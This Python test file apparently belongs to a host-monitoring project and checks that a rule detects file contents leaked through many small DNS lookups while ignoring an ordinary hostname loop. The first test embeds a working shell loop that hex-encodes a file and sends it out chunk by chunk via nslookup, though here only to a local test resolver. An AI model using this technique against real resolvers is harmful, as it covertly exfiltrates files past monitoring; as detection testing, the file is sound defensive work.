"""DNS exfiltration spread over many execs, each too small to alert alone: run for real
under the probe (both modes) against a resolver on 127.0.0.1, judged by the packs."""

from __future__ import annotations

import os
import subprocess
import uuid
from pathlib import Path

import pytest

from osquery_netutil.events.sensor import Sensor

from tests.packs.test_detections import detections
from testkit.support import DnsServer, write_executable

pytestmark = pytest.mark.probe


def _leakable(chunks: int) -> bytes:
    """Random bytes whose every 6-byte chunk is hex with a digit and a letter (as nearly
    all are): the test then knows how many labels look encoded."""
    data = b""
    while len(data) < 6 * chunks:
        chunk = os.urandom(6)
        if any(c.isdigit() for c in chunk.hex()) and any(c.isalpha() for c in chunk.hex()):
            data += chunk
    return data


def _run(script: Path) -> None:
    subprocess.run([str(script)], capture_output=True, timeout=60)


def test_a_file_leaking_through_dns_a_few_bytes_a_lookup_is_caught(sensor: Sensor, workdir: Path) -> None:
    """A script reads a file in 6-byte chunks and asks one name per chunk (12 hex
    characters: under the per-exec shapes); ten or more of them under one domain fire."""
    tag = uuid.uuid4().hex[:8]
    secret = workdir / "secret"
    secret.write_bytes(_leakable(11))
    with DnsServer() as dns:
        script = write_executable(workdir / "leak.sh", (
            "#!/bin/sh\n"
            f"(od -An -v -tx1 {secret} | tr -d ' \\n' | fold -w 12; echo) | while read c; do\n"
            f"  nslookup -port={dns.port} -timeout=1 $c.x{tag}.test 127.0.0.1 >/dev/null 2>&1\n"
            "done\n"))
        _run(script)
        assert len(dns.queries) >= 11   # they were asked for real
    hits = detections(sensor, "netutil_dns_exfiltration_spread", f"x{tag}.test")
    while len(hits) < 11:
        more = detections(sensor, "netutil_dns_exfiltration_spread", f"x{tag}.test", timeout=2)
        if len(more) == len(hits):
            break
        hits = more
    assert len(hits) == 11, [h["cmdline"] for h in hits]
    assert all(h["parent_domain"] == f"x{tag}.test" and h["labels"] == 11 for h in hits)
    assert detections(sensor, "netutil_dns_exfiltration", f"x{tag}.test", timeout=1) == []   # each alone says nothing


def test_a_loop_over_hostnames_is_no_leak(sensor: Sensor, workdir: Path) -> None:
    """The same loop over twenty host names of one domain (a monitoring check)."""
    tag = uuid.uuid4().hex[:8]
    with DnsServer() as dns:
        script = write_executable(workdir / "check.sh", (
            "#!/bin/sh\n"
            "for i in $(seq -w 1 20); do\n"
            f"  nslookup -port={dns.port} -timeout=1 web$i.c{tag}.test 127.0.0.1 >/dev/null 2>&1\n"
            "done\n"))
        _run(script)
        assert len(dns.queries) >= 20
    rows = detections(sensor, "netutil_host_suspicious_location", f"c{tag}.test")
    assert len(rows) >= 1   # the rows are there (a script in /tmp ran them) ...
    assert detections(sensor, "netutil_dns_exfiltration_spread", f"c{tag}.test", timeout=1) == []   # ... and no leak
